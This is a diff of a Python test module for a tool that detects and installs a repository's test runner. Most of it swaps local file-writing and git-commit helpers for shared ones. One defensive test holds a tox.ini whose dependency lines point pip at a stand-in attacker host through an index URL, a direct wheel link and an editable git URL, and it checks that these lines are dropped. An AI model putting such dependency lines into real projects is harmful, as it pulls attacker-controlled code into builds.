@@ -28,7 +28,7 @@ from planner.text.issue import IssueContext
 from planner.verification.suite.declared import declared_tests
 from planner.verification.suite.detect import provision_steps, resolve
 from planner.verification.suite.runner import TestRunner
-from tests.plans import ROOT_TOOLS, completion, finish, planning
+from tests.plans import ROOT_TOOLS, committed_repo, completion, finish, planning, write_files
 from tests.support.wheels import made_up_wheel, wheelhouse_with_pytest
 from tests.test_verification_pass import config, of_type, write
 
@@ -40,25 +40,6 @@ GREET_TEST = "from greet import greet\n\n\ndef test_greet():\n    assert greet('
 PROBE = "planner_probe_dep"
 PIP_VARIABLES = TestRunner._pip_variables
 """As planner sets them (tests/conftest.py takes every test's pip off the index)."""
-
-
-def files(root: Path, contents: dict[str, str]) -> Path:
-    for name, text in contents.items():
-        path = root / name
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text(text, encoding="utf-8")
-    return root
-
-
-def committed(root: Path, contents: dict[str, str]) -> Path:
-    files(root, contents)
-    for args in (
-        ["init", "-q", "-b", "main"],
-        ["add", "."],
-        ["-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-q", "-m", "init"],
-    ):
-        subprocess.run(["git", *args], cwd=root, check=True)
-    return root
 
 
 @pytest.fixture(scope="module")
@@ -95,7 +76,9 @@ def test_pytest_is_installed_for_a_repository_without_a_requirements_file(
 ) -> None:
     """tests/test_greet.py with plain test functions and nothing else: the action's image has
     no pytest, and the pass used to say `Tests: not run — pytest is not installed`."""
-    workspace = committed(tmp_path / "repo", {"greet.py": GREET, "tests/test_greet.py": GREET_TEST})
+    workspace = committed_repo(
+        tmp_path / "repo", {"greet.py": GREET, "tests/test_greet.py": GREET_TEST}
+    )
     scripted_model.add(planning("task_1"), write("NOTES.md", "n\n"), finish(), completion())
     result = run(workspace, scripted_model, wheels)
 
@@ -118,7 +101,7 @@ def test_what_tox_lists_with_pytest_goes_into_the_tests_environment_only(
     the tests' environment, and planner's own interpreter never sees it."""
     tox = "[tox]\nenvlist = py\n\n[testenv]\ndeps =\n    pytest\n    planner-probe-dep\n"
     probe_test = f"from {PROBE} import VALUE\n\n\ndef test_value():\n    assert VALUE == 42\n"
-    workspace = committed(
+    workspace = committed_repo(
         tmp_path / "repo",
         {"greet.py": GREET, "tox.ini": tox, "tests/test_probe.py": probe_test},
     )
@@ -139,7 +122,9 @@ def test_without_a_package_source_the_line_says_why_the_tests_did_not_run(
 ) -> None:
     """An empty folder of wheels and no index: pytest cannot be installed. The pass goes on,
     the line names what to set, and the setup's problem is recorded."""
-    workspace = committed(tmp_path / "repo", {"greet.py": GREET, "tests/test_greet.py": GREET_TEST})
+    workspace = committed_repo(
+        tmp_path / "repo", {"greet.py": GREET, "tests/test_greet.py": GREET_TEST}
+    )
     empty = tmp_path / "empty"
     empty.mkdir()
     scripted_model.add(planning("task_1"), write("NOTES.md", "n\n"), finish(), completion())
@@ -222,7 +207,7 @@ def test_where_projects_declare_pytest_is_read(
     extras: list[str],
     where: list[str],
 ) -> None:
-    declared = declared_tests(files(tmp_path, contents))
+    declared = declared_tests(write_files(tmp_path, contents))
     assert (declared.requirements, declared.extras, declared.where) == (
         requirements,
         extras,
@@ -239,9 +224,9 @@ def test_attack_a_declared_requirement_that_is_a_pip_option_or_a_download_is_lef
         "[testenv]\ndeps =\n    pytest\n    --index-url=https://attacker.example/simple\n"
         "    evil @ https://attacker.example/evil.whl\n    -e git+https://attacker.example/x\n"
     )
-    declared = declared_tests(files(tmp_path, {"tox.ini": tox}))
+    declared = declared_tests(write_files(tmp_path, {"tox.ini": tox}))
     assert declared.requirements == ["pytest"]
-    found = resolve(files(tmp_path, {"tests/test_a.py": "def test_a():\n    pass\n"}), VERIFY)
+    found = resolve(write_files(tmp_path, {"tests/test_a.py": "def test_a():\n    pass\n"}), VERIFY)
     assert provision_steps(found) == [["pip", "install", "pytest"]]
 
 
@@ -250,7 +235,7 @@ VERIFY = VerificationConfig()
 
 def test_the_project_itself_is_installed_with_the_extras_that_list_pytest(tmp_path: Path) -> None:
     pyproject = "[project]\nname = 'x'\n[project.optional-dependencies]\nci = ['pytest']\n"
-    root = files(tmp_path, {"pyproject.toml": pyproject, "tests/test_a.py": ""})
+    root = write_files(tmp_path, {"pyproject.toml": pyproject, "tests/test_a.py": ""})
     found = resolve(root, VerificationConfig(detect_setup=False))
     assert found.runner == "pytest"
     assert provision_steps(found) == [
@@ -263,9 +248,9 @@ def test_the_project_itself_is_installed_with_the_extras_that_list_pytest(tmp_pa
 
 def test_a_python_repository_without_tests_is_still_python(tmp_path: Path) -> None:
     """No tests, but Python files: the issue's test runs there (planner installs pytest)."""
-    found = resolve(files(tmp_path, {"tool/cli.py": "print(1)\n"}), VERIFY)
+    found = resolve(write_files(tmp_path, {"tool/cli.py": "print(1)\n"}), VERIFY)
     assert (found.command, found.python) == ([], True)
-    assert not resolve(files(tmp_path / "docs", {"README.md": "# x\n"}), VERIFY).python
+    assert not resolve(write_files(tmp_path / "docs", {"README.md": "# x\n"}), VERIFY).python
 
 
 def test_the_package_sources_reach_pip_in_the_setup(
@@ -273,7 +258,9 @@ def test_the_package_sources_reach_pip_in_the_setup(
 ) -> None:
     """verification.index_url and find_links are pip's variables in the setup's environment,
     so a configured `pip install` follows them too."""
-    workspace = committed(tmp_path / "repo", {"greet.py": GREET, "tests/test_greet.py": GREET_TEST})
+    workspace = committed_repo(
+        tmp_path / "repo", {"greet.py": GREET, "tests/test_greet.py": GREET_TEST}
+    )
     seen = tmp_path / "pip-env.json"
     script = (
         "import json, os; json.dump({k: v for k, v in os.environ.items() "
@@ -315,7 +302,7 @@ def test_a_package_under_src_that_nothing_installed_is_on_the_tests_path(
     """cachetools keeps its package in src/ and installs pytest through tox: where pytest was
     already there nothing installed the project, and every test module failed to collect
     (`No module named 'cachetools'`), so the baseline said nothing and no fix could pass."""
-    workspace = committed(
+    workspace = committed_repo(
         tmp_path / "repo",
         {
             "pyproject.toml": "[project]\nname = 'greeting'\nversion = '1'\n",
